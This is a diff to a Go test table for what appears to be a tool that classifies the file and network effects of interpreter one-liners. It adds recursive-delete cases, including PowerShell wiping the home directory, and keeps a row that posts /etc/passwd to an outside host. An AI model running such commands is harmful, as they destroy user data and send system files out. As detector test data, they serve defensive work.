@@ -55,6 +55,20 @@ for f in glob.glob("*.o"): os.remove(f)`, "~d /home/dev/app/*.o"},
 	{"python3", `import tempfile, shutil; d = tempfile.mkdtemp(); shutil.rmtree(d)`, "~d /tmp/tmp*/**"},
 	{"python3", "import tempfile\nwith tempfile.TemporaryDirectory() as d: open(d + '/x', 'w')", "~w /tmp/tmp*/x"},
 	{"python3", `import sqlite3; sqlite3.connect("x.db")`, "r /home/dev/app/x.db; w /home/dev/app/x.db"},
+	// directories that are gone through
+	{"python3", `import os; [os.remove(os.path.join(r,f)) for r,_,fs in os.walk("/x") for f in fs]`, "?d ; ~d /x/**"},
+	{"python3", `from pathlib import Path; [p.unlink() for p in Path("/x").rglob("*")]`, "~d /x/*; ~d /x/*/*; ~d /x/**"},
+	{"python3", `from pathlib import Path; [p.unlink() for p in Path("s").rglob("*.o")]`, "~d /home/dev/app/s/*.o; ~d /home/dev/app/s/*/*.o"},
+	{"python3", `import os; [os.remove(os.path.join(r,f)) for r,_,fs in os.walk(".") for f in fs]`, "?d ; ~d /home/dev/app/*; ~d /home/dev/app/*/*"},
+	{"python3", `import os; print(list(os.walk("/x"))); os.remove("a")`, "d /home/dev/app/a"},
+	{"ruby", `Dir.glob("/x/**/*").each { |f| File.delete(f) }`, "~d /x/**"},
+	{"ruby", `require "find"; Find.find("/x") { |f| File.delete(f) }`, "~d /x/**"},
+	{"perl", `use File::Find; find(sub { unlink $_ }, "/x")`, "~d /x/**"},
+	{"php", `foreach (new RecursiveDirectoryIterator("/x") as $f) unlink($f);`, "~d /x/**"},
+	// PowerShell's names of the home
+	{"pwsh", `Remove-Item -Recurse -Force ~`, "d /home/dev/**"},
+	{"pwsh", `Remove-Item -Recurse "$HOME/x"`, "d /home/dev/x/**"},
+	{"pwsh", `rm -r $env:USERPROFILE\x`, "d /home/dev/x/**"},
 	// python: network and what comes of it
 	{"python3", `import requests; print(requests.get("https://e.com/x").text)`, "u e.com"},
 	{"python3", `import requests; requests.post("https://e.com", data=open("/etc/passwd").read())`, "r /etc/passwd; U e.com; f file>network /etc/passwd e.com"},
@@ -150,7 +164,7 @@ for f in glob.glob("*.o"): os.remove(f)`, "~d /home/dev/app/*.o"},
 
 // options are how the interpreters take code on the command line, where it is
 // not -e.
-var codeOptions = map[string]string{"python3": "-c", "php": "-r", "guile": "-c"}
+var codeOptions = map[string]string{"python3": "-c", "php": "-r", "guile": "-c", "pwsh": "-c"}
 
 func TestCode(t *testing.T) {
 	for _, row := range codeTable {
@@ -176,7 +190,7 @@ func TestCode(t *testing.T) {
 // carries out.
 func TestCodeCalls(t *testing.T) {
 	roles := strings.Fields(`sh run eval evalfile open r w rw d D cp mv ln cwd u host listen getfile sqlite same join cat format home env w2
-		envall map module b64 hex rot13 chr decoded glob tmp print write getattr parent =Socket =Session =Path =File`)
+		envall map module b64 hex rot13 chr decoded glob walk tmp print write getattr parent =Socket =Session =Path =File`)
 	seen := map[string]bool{}
 	lang := ""
 	for line := range strings.Lines(codeCallsText) {
